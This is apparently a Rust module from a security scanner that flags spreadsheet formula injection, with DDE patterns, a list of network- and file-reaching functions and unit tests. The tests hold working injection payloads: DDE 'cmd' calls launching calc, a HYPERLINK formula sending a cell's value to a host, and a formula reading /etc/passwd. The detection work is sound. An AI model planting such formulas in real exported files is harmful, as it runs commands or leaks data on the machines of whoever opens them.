//! Formulas that a spreadsheet executes when a table of such values is opened.
//!
//! A sign at the start of a cell alone is nothing: phone numbers, negative amounts and mentions
//! begin so. A call of a function, an exchange with another program or a reference to a file
//! after it is.
use crate::finding::Match;
use crate::text::{Classes, Text};
use crate::work::Work;

/// What wakes it: all classes of one entry.
pub(crate) const WAKE: &[Classes] = &[
    Classes::LEADING_SIGN.with(Classes::PAREN),
    Classes::LEADING_SIGN.with(Classes::PIPE),
    Classes::LEADING_SIGN.with(Classes::APOSTROPHE),
    Classes::LEADING_SIGN.with(Classes::EQUALS),
    Classes::PIPE.with(Classes::BANG),
    Classes::EQUALS.with(Classes::CALL),
    Classes::BANG.with(Classes::PAREN).with(Classes::QUOTE).with(Classes::SEMICOLON),
];
/// What wakes it whatever the classes; in lower case, at least four bytes each.
pub(crate) const LITERALS: &[&str] = &[];

/// Functions that reach out of the sheet: to the network, to files, to other programs.
const REACHING: [&[u8]; 22] = [
    b"call",
    b"cmd",
    b"dde",
    b"encodeurl",
    b"exec",
    b"filterxml",
    b"formula",
    b"hyperlink",
    b"image",
    b"importdata",
    b"importfeed",
    b"importhtml",
    b"importrange",
    b"importxml",
    b"indirect",
    b"macro",
    b"query",
    b"register.id",
    b"rtd",
    b"run",
    b"shell",
    b"webservice",
];
/// How far a formula is read; what reaches out stands at its beginning.
const FORMULA_BYTES_MAX: usize = 512;

/// Judges one decoding of a text.
pub(crate) fn inspect(text: &Text<'_>, work: &mut Work) -> Option<Match> {
    work.spend(2 * text.lower.len() as u64).ok()?;
    let whole = text.lower.trim_ascii_start();
    if let Some(found) = judge(whole, true, text.role.is_free()) {
        return Some(found);
    }
    if text.role.is_free() {
        return None;
    }
    if whole.starts_with(b"dde") && is_exchange_call(whole) {
        return Some(Match::high("dde"));
    }
    // The cells of a table in the text.
    let mut cells = 0u64;
    let mut before = b' ';
    for (at, &byte) in text.lower.iter().enumerate() {
        let starts = matches!(before, b',' | b';' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b'|');
        if starts && matches!(byte, b'=' | b'+' | b'-' | b'@') {
            cells += 1;
            work.spend(3 * cells.min(64)).ok()?;
            if let Some(found) = judge(text.lower.get(at..)?, false, false) {
                return Some(found);
            }
        }
        before = byte;
    }
    None
}

/// Judges a cell; `whole` when the text begins with it.
fn judge(cell: &[u8], whole: bool, free: bool) -> Option<Match> {
    let cell = cell.get(..FORMULA_BYTES_MAX).unwrap_or(cell);
    let (&sign, _) = cell.split_first()?;
    if !matches!(sign, b'=' | b'+' | b'-' | b'@') {
        return None;
    }
    let is_sign = |byte: &u8| matches!(byte, b'=' | b'+' | b'-' | b'@' | b' ');
    let signs = cell.iter().take_while(|byte| is_sign(byte)).count();
    let body = cell.get(signs..)?;
    if is_exchange(body) || is_exchange_call(body) {
        return Some(Match::high("dde"));
    }
    let name = name_of_call(body);
    if name.is_some_and(|name| REACHING.contains(&strip_prefix(name))) || reaches_inside(sign, body)
    {
        return Some(Match::high("formula-that-reaches-out"));
    }
    if free || !whole {
        return None;
    }
    if sign == b'=' && (body.starts_with(b"'file:") || body.starts_with(b"'http")) {
        return Some(Match::high("reference-to-a-file"));
    }
    // A name followed by a bracket: `=SUM(A1:A9)`. Prose and smileys have none.
    let is_call = name.is_some_and(|name| name.len() >= 2);
    if is_call && (sign == b'=' && signs == 1 || sign == b'@') {
        return Some(Match::medium("formula"));
    }
    (sign == b'=' && is_arithmetic(body)).then(|| Match::low("formula"))
}

/// `program|'topic'!cell`: dynamic data exchange.
fn is_exchange(body: &[u8]) -> bool {
    let mut after_pipe = body.split(|&byte| byte == b'|');
    let program = after_pipe.next().unwrap_or_default();
    let named = program.trim_ascii_end().last().is_some_and(u8::is_ascii_alphanumeric);
    let Some(topic) = after_pipe.next() else { return false };
    let topic = topic.trim_ascii_start();
    let is_item = |topic: &[u8]| {
        let item = topic.iter().rposition(|&byte| byte == b'!').map(|at| topic.get(at + 1..));
        item.flatten().is_some_and(|item| item.first().is_some_and(|b| !b" =".contains(b)))
    };
    named
        && !program.contains(&b'\n')
        && (topic.starts_with(b"'") || topic.starts_with(b"\""))
        && is_item(topic)
}

/// `DDE("program";"topic";"item")`.
fn is_exchange_call(body: &[u8]) -> bool {
    let after = body.strip_prefix(b"dde").map(<[u8]>::trim_ascii_start);
    let after = after.and_then(|after| after.strip_prefix(b"(")).map(<[u8]>::trim_ascii_start);
    after.is_some_and(|after| after.starts_with(b"\"") || after.starts_with(b"'"))
}

/// Whether a call deeper in an expression reaches out: `=1+HYPERLINK(…)`, `=IF(1,IMPORTXML(…))`.
fn reaches_inside(sign: u8, body: &[u8]) -> bool {
    let first_line = body.split(|&byte| byte == b'\n').next().unwrap_or_default();
    let mut rest = first_line;
    while let Some(open) = rest.iter().position(|&byte| byte == b'(') {
        let (before, after) = rest.split_at(open);
        let letters = before.iter().rev().take_while(|b| b.is_ascii_alphanumeric() || **b == b'.');
        let name = before.get(before.len() - letters.count()..).unwrap_or_default();
        // Words of programs and prose are functions too; a sheet's own names are longer.
        if sign == b'=' && name.len() > 5 && REACHING.contains(&strip_prefix(name)) {
            return true;
        }
        rest = after.get(1..).unwrap_or_default();
    }
    false
}

/// The name before the bracket that a body starts with.
fn name_of_call(body: &[u8]) -> Option<&[u8]> {
    let is_name = |byte: &&u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_');
    let length = body.iter().take(40).take_while(is_name).count();
    let (name, after) = body.split_at_checked(length)?;
    let starts = name.first().is_some_and(u8::is_ascii_alphabetic);
    (starts && after.first() == Some(&b'(')).then_some(name)
}

/// New functions are written with a prefix in files: `_xlfn.WEBSERVICE`.
fn strip_prefix(name: &[u8]) -> &[u8] {
    name.strip_prefix(b"_xlfn.").or(name.strip_prefix(b"xlfn.")).unwrap_or(name)
}

/// Numbers or cells joined by operators, and nothing else: `=1+1`, `=A1*2`.
fn is_arithmetic(body: &[u8]) -> bool {
    let is_operator = |byte: &u8| b"+-*/^&".contains(byte);
    let allowed =
        |byte: &u8| byte.is_ascii_alphanumeric() || is_operator(byte) || b" .$()".contains(byte);
    let parts = body.split(is_operator).map(<[u8]>::trim_ascii);
    let digits = |part: &[u8]| {
        part.last().is_some_and(|b| b.is_ascii_digit() || *b == b')') && part.len() <= 12
    };
    body.iter().any(is_operator) && body.iter().all(allowed) && parts.into_iter().all(digits)
}

#[cfg(test)]
mod tests {
    use crate::{Families, Family, Role, Work, inspect_text};

    fn is_found(text: &str) -> bool {
        let mut found = false;
        let families = Families::from_iter([Family::Formula]);
        let mut work = Work::default();
        inspect_text(text.as_bytes(), Role::Value, families, &mut work, &mut |_| found = true)
            .unwrap();
        found
    }

    #[test]
    fn formulas_that_do_something_are_found() {
        for text in [
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!D2",
            "+cmd|'/c notepad'!A1",
            "=   cmd|'/C calc'!'A1'",
            "\t=cmd|' /C calc'!A0",
            "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
            "=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")",
            "=_xlfn.WEBSERVICE(\"http://example.com\")",
            "=IMPORTXML(CONCAT(\"http://example.com\", A2),\"//a\")",
            "+IMAGE(\"http://example.com/x\")",
            "=IF(1=1,IMPORTDATA(\"http://example.com\"),0)",
            "=SUM(A1:A9)",
            "=1+1",
            "='file:///etc/passwd'#$passwd.A1",
            "name,=cmd|' /C calc'!A0,1",
            "x;\"=HYPERLINK(\"\"http://example.com\"\")\"",
            "%3Dcmd%7C%27 /C calc%27%21A0",
        ] {
            assert!(is_found(text), "{text}");
        }
    }

    #[test]
    fn numbers_mentions_and_prose_pass() {
        for text in [
            "+1 (555) 010-0199",
            "+44 20 7946 0958",
            "-12.50",
            "-5 (approx.)",
            "- item one (first)\n- item two (call us)",
            "@example (see profile)",
            "@channel please run (again)",
            "=)",
            "=== Title (draft) ===",
            "a=b(c)",
            "--verbose=(yes)",
            "+ Pros (many) - Cons (few)",
            "-f(x) = -x",
            "e = mc|2| wow!",
            "this | that!",
            "{\"a\":\"=\"}",
        ] {
            assert!(!is_found(text), "{text}");
        }
    }
}
